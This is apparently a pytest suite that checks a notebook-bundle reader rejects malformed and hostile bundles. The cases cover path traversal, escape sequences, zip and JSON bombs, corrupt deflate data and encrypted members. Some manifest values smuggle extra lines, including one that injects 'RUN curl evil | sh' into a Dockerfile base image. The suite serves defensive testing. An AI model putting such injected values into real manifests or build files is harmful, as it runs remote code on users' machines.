"""One test per attack on the reader: each hostile bundle gives exit 3 and ONE `error:` line
through the real CLI (never `error: unexpected …`, never a traceback), and writes nothing."""

from __future__ import annotations

import struct
import zipfile
from pathlib import Path

import pytest
from bundlekit import NOTEBOOK, edit_manifest, good_bundle, members, rewrite, sealed, tree_files

from helpers import assert_one_error_line, kbundle
from kbundle.bundle import BundleError, open_bundle
from kbundle.bundle.format import MANIFEST


@pytest.fixture
def good(tmp_path) -> Path:
    return good_bundle(tmp_path / "good.kbundle")


def _set(path: str, value):
    """A change to the manifest's JSON: set the field at dotted `path` (list indexes allowed)."""

    def change(doc: dict) -> None:
        *parents, last = path.split(".")
        node = doc
        for key in parents:
            node = node[int(key)] if isinstance(node, list) else node[key]
        node[int(last) if isinstance(node, list) else last] = value

    return change


def _deep(levels: int):
    value: object = "bottom"
    for _ in range(levels):
        value = {"x": [value]}
    return value


# name: (change to the manifest JSON, words the one error line must hold)
MALFORMED = {
    "format-version-true": (_set("format_version", True), "unknown bundle format version"),
    "format-version-float": (_set("format_version", 1.0), "unknown bundle format version"),
    "name-traversal": (_set("name", "../../escape"), "manifest.name"),
    "name-too-long": (_set("name", "a" * 64), "manifest.name"),
    "name-escape-sequence": (_set("name", "good\x1b[2K"), "manifest.name"),
    "name-newline": (_set("name", "good\nerror: fake"), "manifest.name"),
    "name-not-a-string": (_set("name", 123), "manifest.name must be a string"),
    "notebook-is-the-dockerfile": (_set("notebook", "Dockerfile"), "manifest.notebook"),
    "notebook-not-ipynb": (_set("notebook", "work/data/table.csv"), "manifest.notebook"),
    "notebook-not-listed": (_set("notebook", "work/other.ipynb"), "manifest.notebook names a member"),
    "python-a-list": (_set("python", ["3.11"]), "manifest.python"),
    "cuda-a-number": (_set("cuda", 11.8), "manifest.cuda"),
    "bool-a-string": (_set("cuda_runtime_in_env", "yes"), "manifest.cuda_runtime_in_env"),
    "locked-an-int": (_set("locked", 1), "manifest.locked"),
    "base-image-injects-a-line": (_set("base_image", "debian\nRUN curl evil | sh"), "manifest.base_image"),
    "conda-a-list": (_set("conda", []), "manifest.conda must be an object"),
    "dependencies-a-string": (_set("conda.dependencies", "python"), "manifest.conda.dependencies must be a list"),
    "dependency-injects-a-line": (_set("conda.dependencies.0", "python\n--index-url x"), "control characters"),
    "pip-entry-an-object": (_set("pip.0", {"name": "rich"}), "manifest.pip[0]"),
    "string-too-long": (_set("base_image_reason", "x" * 3000), "longer than 2000"),
    "huge-manifest": (_set("base_image_reason", "x" * (5 * 1024 * 1024)), "larger than"),
    "list-too-long": (_set("pip", ["rich==13.0.0"] * 5001), "more than 5000"),
    "nested-too-deep": (_set("future_field", _deep(10)), "nests deeper"),
    "size-negative": (_set("files.0.size", -1), "manifest.files[0].size"),
    "size-a-bool": (_set("files.0.size", True), "manifest.files[0].size"),
    "sha256-not-hex": (_set("files.0.sha256", "Z" * 64), "manifest.files[0].sha256"),
    "files-not-objects": (_set("files", [1]), "manifest.files[0] must be an object"),
    "reserved-member-listed": (_set("files.0.path", "kbundle.sig"), "manifest.files[0].path"),
    "include-outside-work": (_set("includes", ["env/environment.yml"]), "manifest.includes[0]"),
    "dropped-without-reason": (_set("dropped", [{"spec": "vc"}]), "manifest.dropped[0].reason is missing"),
    "source-a-string": (_set("source", "conda"), "manifest.source must be an object"),
    "locked-without-lock": (_set("locked", True), "manifest.lock"),
    "platform-not-linux": (_set("platform", "win-64"), "manifest.platform"),
    "content-hash-not-hex": (_set("content_hash", "xyz"), "manifest.content_hash"),
    "required-field-missing": (lambda doc: doc.pop("base_image"), "manifest.base_image is missing"),
}

RAW = {
    "not-json": (b"{not json", "not valid JSON"),
    "not-utf8": (b'{"name": "\xff"}', "not valid JSON"),
    "not-an-object": (b"[1, 2, 3]", "not a JSON object"),
    "duplicate-keys": (b'{"format_version": 1, "format_version": 1}', "not valid JSON"),
    "nan": (b'{"format_version": NaN}', "not valid JSON"),
    "recursion-bomb": (b"[" * 200_000 + b"]" * 200_000, "not valid JSON"),
    "huge-integer": (b'{"format_version": ' + b"9" * 5000 + b"}", "not valid JSON"),
}


def _rejected(bundle: Path, *words: str) -> None:
    result = kbundle("verify", bundle)
    assert_one_error_line(result, *words)
    assert result.returncode == 3, result.stderr
    assert "unexpected" not in result.stderr and "\x1b" not in result.stderr


@pytest.mark.parametrize("case", sorted(MALFORMED))
def test_malformed_manifest_is_a_damaged_bundle(good, tmp_path, case):
    change, words = MALFORMED[case]
    _rejected(edit_manifest(good, tmp_path / f"{case}.kbundle", change), words)


@pytest.mark.parametrize("case", sorted(RAW))
def test_manifest_that_is_not_json_is_a_damaged_bundle(good, tmp_path, case):
    raw, words = RAW[case]
    _rejected(edit_manifest(good, tmp_path / f"{case}.kbundle", None, raw=raw), words)


def test_there_are_at_least_24_kinds_of_malformed_manifest():
    assert len(MALFORMED) + len(RAW) >= 24


def _notebook_bundle(tmp_path: Path, data: bytes) -> Path:
    return sealed(tmp_path / "nb.kbundle", {**members(), "work/nb.ipynb": data})


@pytest.mark.parametrize(
    "data, words",
    [
        (b"print('not a notebook')", "not JSON"),
        (b'{"cells": "x", "nbformat": 4}', "no cells/nbformat"),
        (b'{"cells": [], "nbformat": true}', "no cells/nbformat"),
        (b'{"cells": [], "nbformat": 4, "metadata": []}', "no cells/nbformat"),
        (b"\xff\xfe", "not JSON"),
    ],
)
def test_a_notebook_that_is_not_one_is_a_damaged_bundle(tmp_path, data, words):
    _rejected(_notebook_bundle(tmp_path, data), "notebook", words)


def test_a_notebook_saved_with_a_bom_is_fine(tmp_path):
    assert open_bundle(_notebook_bundle(tmp_path, b"\xef\xbb\xbf" + NOTEBOOK)).name == "good"


def test_a_dockerfile_that_is_not_utf8_is_a_damaged_bundle(tmp_path):
    _rejected(sealed(tmp_path / "df.kbundle", {**members(), "Dockerfile": b"FROM \xff\n"}), "Dockerfile", "UTF-8")


def _data_offset(path: Path, member: str) -> int:
    with zipfile.ZipFile(path) as zf:
        info = zf.getinfo(member)
    with open(path, "rb") as fh:
        fh.seek(info.header_offset + 26)
        name_len, extra_len = struct.unpack("<HH", fh.read(4))
    return info.header_offset + 30 + name_len + extra_len


def test_corrupt_deflate_data_is_a_damaged_bundle(good, tmp_path):
    data = bytearray(good.read_bytes())
    data[_data_offset(good, "env/environment.yml")] = 0xFF  # BFINAL=1, BTYPE=11: an invalid deflate block
    bad = tmp_path / "deflate.kbundle"
    bad.write_bytes(bytes(data))
    _rejected(bad, "truncated or corrupt")


def test_corrupt_manifest_deflate_data_is_a_damaged_bundle(good, tmp_path):
    data = bytearray(good.read_bytes())
    data[_data_offset(good, MANIFEST)] = 0xFF
    bad = tmp_path / "deflate.kbundle"
    bad.write_bytes(bytes(data))
    _rejected(bad, "truncated or corrupt")


def test_encrypted_members_are_refused(good, tmp_path):
    data = bytearray(good.read_bytes())
    # set the "encrypted" flag in every central directory entry: zipfile trusts those
    start = 0
    while (at := data.find(b"PK\x01\x02", start)) >= 0:
        data[at + 8] |= 0x01
        start = at + 4
    bad = tmp_path / "encrypted.kbundle"
    bad.write_bytes(bytes(data))
    _rejected(bad, "encrypted")


@pytest.mark.parametrize("method", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_compression_other_than_deflate_is_refused(good, tmp_path, method):
    bad = tmp_path / "lzma.kbundle"
    with zipfile.ZipFile(good) as zin, zipfile.ZipFile(bad, "w") as zout:
        for info in zin.infolist():
            fresh = zipfile.ZipInfo(info.filename, date_time=info.date_time)
            fresh.compress_type = method if info.filename == "work/data/table.csv" else zipfile.ZIP_DEFLATED
            zout.writestr(fresh, zin.read(info))
    _rejected(bad, "compression")


def test_too_many_members_are_refused_before_reading_them(good, tmp_path):
    bad = rewrite(good, tmp_path / "many.kbundle", lambda n, d: d)
    with zipfile.ZipFile(bad, "a") as zf:
        for i in range(10_010):
            zf.writestr(f"work/f{i}", b"")
    _rejected(bad, "more members")


def test_an_extra_member_named_like_the_signature_is_still_checked(good, tmp_path):
    bad = rewrite(good, tmp_path / "sig.kbundle", lambda n, d: d)
    with zipfile.ZipFile(bad, "a") as zf:
        zf.writestr("kbundle.sig", b"not a signature")
    _rejected(bad, "kbundle.sig")


def test_declared_sizes_over_the_extraction_limit_are_refused_on_open(good):
    with pytest.raises(BundleError, match="more than the"):
        open_bundle(good, max_extract=100)


def test_hostile_bundles_write_nothing(tmp_path, good):
    """`verify` and `inspect` of every hostile bundle above leave the folder exactly as it was."""
    cases = [
        edit_manifest(good, tmp_path / f"m{i}.kbundle", change) for i, (change, _) in enumerate(MALFORMED.values())
    ]
    before = tree_files(tmp_path)
    for bundle in cases[:8]:
        for command in ("verify", "inspect"):
            assert kbundle(command, bundle, cwd=tmp_path).returncode == 3
    assert tree_files(tmp_path) == before
